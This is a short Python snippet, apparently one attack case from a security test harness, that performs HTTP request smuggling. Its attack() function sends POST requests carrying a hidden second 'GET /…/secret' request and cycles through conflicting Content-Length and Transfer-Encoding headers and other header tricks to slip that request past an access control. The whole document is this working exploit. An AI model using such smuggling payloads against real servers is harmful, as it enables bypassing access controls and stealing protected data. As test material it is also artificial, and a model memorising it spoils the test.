# Lengths that contradict each other leave a second request in the body.
# after: connect
# source: request smuggling
# granted: fetch
# control: wall
def attack(site, **_):
    name = site.rpartition("/")[2]
    body = f"GET /{name}/secret HTTP/1.1\r\nHost: x\r\n\r\n"
    for headers in ({"Content-Length": "0"}, {"Transfer-Encoding": "chunked"}, {"content-length": "0", "Transfer-Encoding": "identity"}, {"Connection": "keep-alive, Content-Length"}, {"Expect": "100-continue"}):
        try:
            fetch(site + "/granted/note", method="POST", headers=headers, body="0\r\n\r\n" + body)
        except (OSError, ValueError):
            continue
